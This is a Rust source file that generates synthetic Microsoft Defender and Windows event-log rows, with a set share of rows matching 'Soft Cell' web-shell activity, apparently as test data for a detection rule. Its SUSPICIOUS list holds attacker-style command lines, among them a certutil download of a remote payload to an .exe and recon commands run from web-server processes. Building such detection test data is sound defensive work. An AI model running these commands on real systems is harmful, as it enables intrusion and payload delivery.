//! Generated Defender `DeviceProcessEvents` rows: realistic shapes and lengths, a chosen
//! share of Soft Cell matches, deterministic for a seed.

use std::io::{self, Write};

/// A small deterministic generator (xorshift64*): the same events on every run.
#[derive(Debug)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
}

const BENIGN: &[(&str, &str, &str)] = &[
    ("svchost.exe", "services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("conhost.exe", "cmd.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    (
        "chrome.exe",
        "explorer.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --enable-auto-reload",
    ),
    ("git.exe", "Code.exe", "git.exe -c core.quotepath=false -c color.ui=false status -z -uall"),
    (
        "powershell.exe",
        "explorer.exe",
        "\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo",
    ),
    ("cmd.exe", "explorer.exe", "\"C:\\WINDOWS\\system32\\cmd.exe\" /c ping -n 1 fileserver01"),
    ("cmd.exe", "w3wp.exe", "cmd.exe /c \"cd /d C:\\inetpub\\logs && dir\""),
    (
        "MsMpEng.exe",
        "services.exe",
        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24030.9-0\\MsMpEng.exe\"",
    ),
    ("taskhostw.exe", "svchost.exe", "taskhostw.exe Install $(Arg0)"),
    (
        "java.exe",
        "tomcat9.exe",
        "\"C:\\Program Files\\Java\\jre\\bin\\java.exe\" -Xmx512m -jar app.jar --spring.profiles.active=prod",
    ),
];

const SUSPICIOUS: &[&str] = &[
    "cmd.exe /c whoami /all",
    "cmd.exe /c \"cd /d c:\\inetpub\\wwwroot\\&ipconfig /all&echo [S]&cd&echo [E]\"",
    "cmd.exe /c certutil -urlcache -split -f http://203.0.113.9/s.txt %TEMP%\\s.exe",
    "cmd.exe /c systeminfo | findstr /B /C:\"OS Name\"",
    "powershell.exe -nop -c \"ping -n 1 10.1.2.3; timeout /t 2\"",
];

const WEB_SERVERS: &[&str] = &["w3wp.exe", "httpd.exe", "tomcat9.exe", "beasvc.exe"];

/// Writes `count` rows as JSON lines to `out`; `match_percent` of them match Soft Cell.
pub fn write_defender_jsonl(
    out: &mut impl Write,
    count: u64,
    match_percent: u64,
    seed: u64,
) -> io::Result<u64> {
    let mut rng = Rng::new(seed);
    let start =
        chrono::DateTime::parse_from_rfc3339("2024-05-01T00:00:00Z").expect("a time").timestamp_millis();
    let mut matching = 0;
    for i in 0..count {
        let device = rng.below(200);
        let time = chrono::DateTime::from_timestamp_millis(start + i as i64 * 37).expect("in range");
        let (file, parent, command_line) = if rng.below(100) < match_percent {
            matching += 1;
            let shell = if rng.below(2) == 0 { "cmd.exe" } else { "powershell.exe" };
            (shell, rng.pick(WEB_SERVERS), rng.pick(SUSPICIOUS))
        } else {
            BENIGN[rng.below(BENIGN.len() as u64) as usize]
        };
        let row = serde_json::json!({
            "Timestamp": time.to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
            "DeviceId": format!("{:040x}", device * 0x9E37_79B9_7F4A_7C15),
            "DeviceName": format!("host{device:03}.corp.contoso.com"),
            "ActionType": "ProcessCreated",
            "FileName": file,
            "FolderPath": format!("C:\\Windows\\System32\\{file}"),
            "ProcessId": 1000 + rng.below(60_000),
            "ProcessCommandLine": command_line,
            "ProcessCreationTime": time.to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
            "AccountDomain": "contoso",
            "AccountName": format!("user{}", rng.below(500)),
            "AccountSid": format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1000 + rng.below(500)),
            "SHA1": format!("{:016x}{:016x}{:08x}", rng.next(), rng.next(), rng.below(u32::MAX as u64)),
            "SHA256": format!("{:016x}{:016x}{:016x}{:016x}", rng.next(), rng.next(), rng.next(), rng.next()),
            "MD5": format!("{:016x}{:016x}", rng.next(), rng.next()),
            "InitiatingProcessFileName": parent,
            "InitiatingProcessFolderPath": format!("C:\\Windows\\System32\\{parent}"),
            "InitiatingProcessCommandLine": parent,
            "InitiatingProcessId": 1000 + rng.below(60_000),
            "InitiatingProcessAccountName": "system",
            "InitiatingProcessParentFileName": "services.exe",
            "InitiatingProcessParentId": 700 + rng.below(100),
            "ReportId": i + 1,
        });
        serde_json::to_writer(&mut *out, &row)?;
        out.write_all(b"\n")?;
    }
    Ok(matching)
}

/// Kinds of Windows events in the generated log, with their weights: mostly Sysmon and
/// Security noise, with process creations at about 0.6% (322 of 53,698 in one OTRF
/// capture).
const WINDOWS_MIX: &[(&str, u32, u64)] = &[
    ("Microsoft-Windows-Sysmon/Operational", 10, 300),
    ("Microsoft-Windows-Sysmon/Operational", 7, 200),
    ("Microsoft-Windows-Sysmon/Operational", 12, 150),
    ("Microsoft-Windows-Sysmon/Operational", 3, 60),
    ("Microsoft-Windows-Sysmon/Operational", 11, 40),
    ("Security", 4658, 70),
    ("Security", 4656, 60),
    ("Security", 4703, 50),
    ("Security", 5156, 40),
    ("Security", 4624, 24),
    ("Microsoft-Windows-Sysmon/Operational", 1, 3),
    ("Security", 4688, 3),
];

/// Writes `count` evtx_dump-shaped Windows events as JSON lines (`{"Event": {"System":
/// .., "EventData": ..}}`, ~1 KB each) and returns how many are process creations.
pub fn write_windows_jsonl(out: &mut impl Write, count: u64, seed: u64) -> io::Result<u64> {
    let mut rng = Rng::new(seed);
    let total: u64 = WINDOWS_MIX.iter().map(|(_, _, w)| w).sum();
    let start =
        chrono::DateTime::parse_from_rfc3339("2024-05-01T00:00:00Z").expect("a time").timestamp_millis();
    let mut creations = 0;
    for i in 0..count {
        let mut pick = rng.below(total);
        let &(channel, id, _) = WINDOWS_MIX
            .iter()
            .find(|(_, _, w)| {
                if pick < *w {
                    true
                } else {
                    pick -= w;
                    false
                }
            })
            .expect("weights cover the range");
        let time = chrono::DateTime::from_timestamp_millis(start + i as i64 * 3).expect("in range");
        let stamp = time.to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
        let sysmon = channel.contains("Sysmon");
        let (parent, file, command_line) = BENIGN[rng.below(BENIGN.len() as u64) as usize];
        let data = match (sysmon, id) {
            (true, 1) => {
                creations += 1;
                serde_json::json!({
                    "RuleName": "-", "UtcTime": stamp.replace('T', " ").trim_end_matches('Z'),
                    "ProcessGuid": format!("{{{:08x}-1c01-6630-a101-000000001c00}}", rng.below(1 << 32)),
                    "ProcessId": rng.below(60_000), "Image": format!("C:\\Windows\\System32\\{file}"),
                    "CommandLine": command_line, "CurrentDirectory": "C:\\Windows\\system32\\",
                    "User": "CONTOSO\\alice", "IntegrityLevel": "Medium",
                    "Hashes": "SHA1=F1EFB0FDDC156E4C61C5F78A54700E4E7984D55D,MD5=911D039E71583A07320B32BDE22F8E22",
                    "ParentProcessGuid": format!("{{{:08x}-1c01-6630-a101-000000001c00}}", rng.below(1 << 32)),
                    "ParentProcessId": rng.below(60_000), "ParentImage": format!("C:\\Windows\\System32\\{parent}"),
                    "ParentCommandLine": parent,
                })
            }
            (false, 4688) => {
                creations += 1;
                serde_json::json!({
                    "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CONTOSO",
                    "SubjectLogonId": "0x3e7", "NewProcessId": format!("{:#x}", rng.below(60_000)),
                    "NewProcessName": format!("C:\\Windows\\System32\\{file}"), "TokenElevationType": "%%1936",
                    "ProcessId": format!("{:#x}", rng.below(60_000)), "CommandLine": command_line,
                    "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
                    "ParentProcessName": format!("C:\\Windows\\System32\\{parent}"), "MandatoryLabel": "S-1-16-16384",
                })
            }
            (true, _) => serde_json::json!({
                "RuleName": "-", "UtcTime": stamp.replace('T', " ").trim_end_matches('Z'),
                "ProcessGuid": format!("{{{:08x}-1c01-6630-a101-000000001c00}}", rng.below(1 << 32)),
                "ProcessId": rng.below(60_000), "Image": format!("C:\\Windows\\System32\\{file}"),
                "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings",
                "SourceProcessGUID": format!("{{{:08x}-1c01-6630-a101-000000001c00}}", rng.below(1 << 32)),
                "GrantedAccess": "0x1000", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
            }),
            (false, _) => serde_json::json!({
                "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CONTOSO",
                "SubjectLogonId": "0x3e7", "ObjectServer": "Security", "ObjectType": "Key",
                "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
                "HandleId": format!("{:#x}", rng.below(1 << 16)), "ProcessId": format!("{:#x}", rng.below(60_000)),
                "ProcessName": format!("C:\\Windows\\System32\\{file}"), "AccessMask": "0x20019",
            }),
        };
        let provider =
            if sysmon { "Microsoft-Windows-Sysmon" } else { "Microsoft-Windows-Security-Auditing" };
        let record = serde_json::json!({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider, "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
                "EventID": id, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0, "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": stamp}}, "EventRecordID": i + 1, "Correlation": null,
                "Execution": {"#attributes": {"ProcessID": 3904, "ThreadID": 4272}},
                "Channel": channel, "Computer": "ws01.contoso.com", "Security": {"#attributes": {"UserID": "S-1-5-18"}}
            },
            "EventData": data,
        }});
        serde_json::to_writer(&mut *out, &record)?;
        out.write_all(b"\n")?;
    }
    Ok(creations)
}
